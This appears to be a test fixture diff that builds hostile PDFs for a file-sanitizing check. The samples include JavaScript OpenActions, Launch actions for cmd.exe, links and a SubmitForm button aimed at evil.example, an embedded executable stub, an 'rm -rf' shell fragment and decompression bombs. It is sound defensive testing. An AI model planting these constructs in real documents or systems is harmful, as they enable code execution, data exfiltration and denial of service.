@@ -1,0 +1,286 @@
+import { createHash } from 'node:crypto';
+import { constants, deflateRawSync, deflateSync } from 'node:zlib';
+import { eicar } from '@participe/connectors/scanner-stand-in';
+import { type HostileFile, kept, refused } from './hostile-file.ts';
+import { cameraSettings, jpegSegment, jpegWith, smallJpeg } from './jpeg-samples.ts';
+import { buildPdf, drawing, pdfStream, sheet, updatePdf } from './build-pdf.ts';
+
+const alert = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
+const launch = '<</S/Launch/F(calc.exe)/Win<</F(cmd.exe)>>>>';
+const acting = ['app.alert', 'JavaScript', 'OpenAction', 'Launch', 'calc.exe', 'cmd.exe'];
+const box = '/Type/Annot/Rect[0 0 50 50]';
+const look = pdfStream('1 0 0 rg 0 0 50 50 re f', '/Type/XObject/Subtype/Form/BBox[0 0 50 50]');
+
+/** A picture that a PDF says to be of this size. */
+const picture = (size: string, packed = '/DCTDecode'): Buffer =>
+  pdfStream(
+    smallJpeg(),
+    `/Type/XObject/Subtype/Image${size}/ColorSpace/DeviceGray/BitsPerComponent 8/Filter${packed}`,
+  );
+
+/** One megabyte of nothing that is said again and again: a stream that hardly ends for its reader. */
+function endless(megabytes = 300): Buffer {
+  const once = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH });
+  return Buffer.concat([
+    Buffer.from([0x78, 0x9c]),
+    ...Array.from({ length: megabytes }, () => once),
+    Buffer.from([3, 0]),
+  ]);
+}
+
+/** Objects in another object, with the table packed as newer files have it. */
+function packedPdf(catalog: string, holderOfHolder = false): Buffer {
+  const inside = [
+    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
+    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
+    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>',
+  ];
+  let offset = 0;
+  const places = inside.map((text, index) => {
+    const place = `${String(index + 1)} ${String(offset)}`;
+    offset += text.length + 1;
+    return place;
+  });
+  const index = `${places.join(' ')} `;
+  const says = `/Type/ObjStm/N 3/First ${String(index.length)}/Filter/FlateDecode`;
+  const head = Buffer.from('%PDF-1.5\n');
+  const holder = Buffer.concat([
+    Buffer.from('4 0 obj\n'),
+    pdfStream(deflateSync(Buffer.from(index + inside.join('\n'))), says),
+    Buffer.from('\nendobj\n'),
+  ]);
+  const row = (kind: number, place: number): number[] => [kind, place >> 8, place & 255, 0];
+  const tableAt = head.length + holder.length;
+  const rows = [
+    row(0, 0),
+    ...[1, 2, 3].map(() => row(2, 4)),
+    holderOfHolder ? row(2, 4) : row(1, head.length),
+    row(1, tableAt),
+  ];
+  const table = pdfStream(
+    deflateSync(Buffer.from(rows.flat())),
+    '/Type/XRef/Size 6/W[1 2 1]/Root 1 0 R/Filter/FlateDecode',
+  );
+  return Buffer.concat([
+    head,
+    holder,
+    Buffer.from('5 0 obj\n'),
+    table,
+    Buffer.from(`\nendobj\nstartxref\n${String(tableAt)}\n%%EOF\n`),
+  ]);
+}
+
+const program = Buffer.concat([Buffer.from('MZ'), Buffer.from('This program cannot be run')]);
+
+/** PDFs in which something acts, or is carried along: a page remains, and nothing else. */
+const acted: readonly HostileFile[] = [
+  kept(
+    'a PDF that runs when it is opened',
+    () => sheet({ catalog: `/OpenAction ${alert}` }),
+    acting,
+  ),
+  kept(
+    'a PDF with a script among its names',
+    () => sheet({ catalog: `/Names<</JavaScript<</Names[(a) ${alert}]>>>>` }),
+    acting,
+  ),
+  kept('a page that runs when it is shown', () => sheet({ page: `/AA<</O ${alert}>>` }), acting),
+  kept(
+    'a script under a name in disguise',
+    () => sheet({ catalog: '/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>' }),
+    acting,
+  ),
+  kept('a script in a packed object', () => packedPdf(`/OpenAction ${alert}`), acting),
+  kept(
+    'a script that was added behind the end',
+    () => updatePdf(sheet(), 1, [`<</Type/Catalog/Pages 2 0 R/OpenAction ${alert}>>`]),
+    acting,
+  ),
+  kept(
+    'a link that starts a program',
+    () => sheet({ page: `/Annots[<<${box}/Subtype/Link/A ${launch}>>]` }),
+    acting,
+  ),
+  kept(
+    'a link to another place',
+    () => sheet({ page: `/Annots[<<${box}/Subtype/Link/A<</S/URI/URI(http://evil.example/)>>>>]` }),
+    ['evil.example', 'URI'],
+  ),
+  kept(
+    'a button that sends what is written',
+    () =>
+      sheet({
+        page: `/Annots[<<${box}/Subtype/Widget/FT/Btn/AP<</N 5 0 R>>/A<</S/SubmitForm/F(http://evil.example/)>>>>]`,
+        more: [look],
+      }),
+    ['evil.example', 'SubmitForm', 'Widget'],
+  ),
+  kept(
+    'a box with a script for every key',
+    () =>
+      sheet({
+        catalog: '/AcroForm<</Fields[6 0 R]/NeedAppearances true>>',
+        page: '/Annots[6 0 R]',
+        more: [look, `<<${box}/Subtype/Widget/FT/Tx/T(a)/V(b)/AP<</N 5 0 R>>/AA<</K ${alert}>>>>`],
+      }),
+    [...acting, 'AcroForm', 'Widget'],
+  ),
+  kept(
+    'a form of its own kind (XFA)',
+    () => sheet({ catalog: '/AcroForm<</XFA 5 0 R>>', more: [pdfStream('<xdp:xdp/>')] }),
+    ['XFA', 'xdp'],
+  ),
+  kept(
+    'a program among its files',
+    () =>
+      sheet({
+        catalog: '/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>',
+        more: [
+          '<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>',
+          pdfStream(program, '/Type/EmbeddedFile'),
+        ],
+      }),
+    ['EmbeddedFile', 'a.exe', 'cannot be run'],
+  ),
+  kept(
+    'a program pinned to a page',
+    () =>
+      sheet({
+        page: `/Annots[<<${box}/Subtype/FileAttachment/FS 5 0 R/AP<</N 7 0 R>>>>]`,
+        more: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', pdfStream(program), look],
+      }),
+    ['FileAttachment', 'a.exe', 'cannot be run'],
+  ),
+  kept(
+    'a film that plays',
+    () =>
+      sheet({
+        page: `/Annots[<<${box}/Subtype/RichMedia/RichMediaContent 5 0 R/AP<</N 6 0 R>>>>]`,
+        more: [pdfStream('FWS'), look],
+      }),
+    ['RichMedia', 'FWS'],
+  ),
+  kept(
+    'a picture that stands elsewhere',
+    () =>
+      sheet({
+        resources: '/XObject<</X 5 0 R>>',
+        more: [pdfStream(drawing, '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(//evil.example/x)')],
+      }),
+    ['evil.example'],
+  ),
+  kept(
+    'a photograph on a page that knows where it was taken',
+    () =>
+      sheet({
+        resources: '/XObject<</X 5 0 R>>',
+        more: [
+          pdfStream(
+            jpegWith(cameraSettings(1, 'GPS 40.4168N'), jpegSegment(0xfe, Buffer.from('<?php'))),
+            '/Type/XObject/Subtype/Image/Width 20/Height 12/Filter/DCTDecode',
+          ),
+        ],
+      }),
+    ['GPS', 'Exif', 'php'],
+  ),
+  kept(
+    'papers about the person who wrote it',
+    () =>
+      sheet({
+        catalog: '/Metadata 5 0 R/PieceInfo<</A<</Private 5 0 R>>>>',
+        more: [pdfStream('<x:xmpmeta>Ana Martínez</x:xmpmeta>'), '<</Author(Ana)/Title(Secreto)>>'],
+        trailer: '/Info 6 0 R',
+      }),
+    ['xmpmeta', 'Secreto', 'Author'],
+  ),
+  kept('an object that no page needs', () => sheet({ more: [pdfStream('#!/bin/sh rm -rf')] }), [
+    '/bin/sh',
+  ]),
+];
+
+const cut = (bytes: Buffer, from: string, to: string): Buffer =>
+  Buffer.from(bytes.toString('latin1').replace(from, to), 'latin1');
+const digest = createHash('md5').update('key').digest('hex');
+
+/** Takes its reader a while, and then is refused for its end. */
+export const slowPdf = (): Buffer =>
+  sheet({ content: pdfStream(endless(60), '/Filter/FlateDecode') });
+
+/** PDFs that are refused: under a key, broken, something else as well, or more than they seem. */
+const broken: readonly HostileFile[] = [
+  refused('a PDF under a key', () =>
+    sheet({ trailer: `/Encrypt<</Filter/Standard/V 1/R 2/P -4>>/ID[<${digest}><${digest}>]` }),
+  ),
+  refused('a PDF under the key of somebody', () =>
+    sheet({ content: pdfStream(drawing, '/Filter/Crypt') }),
+  ),
+  refused('half a PDF', () => sheet().subarray(0, 200)),
+  refused('a PDF without its end', () => sheet().subarray(0, -7)),
+  refused('the beginning of a PDF', () => Buffer.from('%PDF-1.7\n')),
+  refused('a PDF with a packed file behind it', () =>
+    Buffer.concat([sheet(), Buffer.from('PK\u0003\u0004')]),
+  ),
+  refused('a PDF with a page of the web behind it', () =>
+    Buffer.concat([sheet(), Buffer.from('<script>alert(1)</script>')]),
+  ),
+  refused('a picture with a PDF behind it', () => Buffer.concat([Buffer.from('GIF89a'), sheet()])),
+  refused('a page of the web with a PDF in it', () =>
+    Buffer.concat([Buffer.from('<!--'), sheet()]),
+  ),
+  refused('a PDF behind a mark of byte order', () =>
+    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), sheet()]),
+  ),
+  refused('a PDF whose table points elsewhere', () =>
+    cut(sheet(), '%\u00e2\u00e3\u00cf\u00d3\n', '% moved everything\n'),
+  ),
+  refused('a PDF with more objects than fit', () => cut(sheet(), '1 4\n0', '1 999999999\n0')),
+  refused('a PDF whose parts run in a circle', () => {
+    const text = sheet().toString('latin1');
+    return Buffer.from(
+      text.replace(/>>\nstartxref\n(\d+)/u, '/Prev $1>>\nstartxref\n$1'),
+      'latin1',
+    );
+  }),
+  refused('a PDF without a page', () =>
+    buildPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>']),
+  ),
+  refused('pages that run in a circle', () =>
+    buildPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1>>']),
+  ),
+  refused('an object that holds itself', () => packedPdf('', true)),
+  refused('values without end in each other', () =>
+    sheet({ resources: `/Font ${'['.repeat(5000)}${']'.repeat(5000)}` }),
+  ),
+  refused('a stream that is longer than its file', () =>
+    sheet({ content: Buffer.from('<</Length 99999999>>\nstream\nx\nendstream') }),
+  ),
+  refused('a stream whose length leads to itself', () =>
+    sheet({ content: Buffer.from('<</Length 4 0 R>>\nstream\nx\nendstream') }),
+  ),
+  refused('a stream that unfolds without end', () =>
+    sheet({ content: pdfStream(endless(), '/Filter/FlateDecode') }),
+  ),
+  refused('a stream that unfolds twice', () =>
+    sheet({ content: pdfStream(deflateSync(endless()), '/Filter[/FlateDecode/FlateDecode]') }),
+  ),
+  refused('a stream of runs that add up', () =>
+    sheet({ content: pdfStream(Buffer.alloc(5 * 1024 * 1024, 0x81), '/Filter/RunLengthDecode') }),
+  ),
+  refused('a picture as large as a field', () =>
+    sheet({
+      resources: '/XObject<</X 5 0 R>>',
+      more: [picture('/Width 100000/Height 100000')],
+    }),
+  ),
+  refused('a picture packed by nobody knows what', () =>
+    sheet({
+      resources: '/XObject<</X 5 0 R>>',
+      more: [picture('/Width 9/Height 9', '/MadeUpDecode')],
+    }),
+  ),
+  refused('a PDF in which the scanner finds something', () =>
+    sheet({ content: pdfStream(`% ${eicar}`) }),
+  ),
+];
+
+export const hostilePdfs: readonly HostileFile[] = [...acted, ...broken];
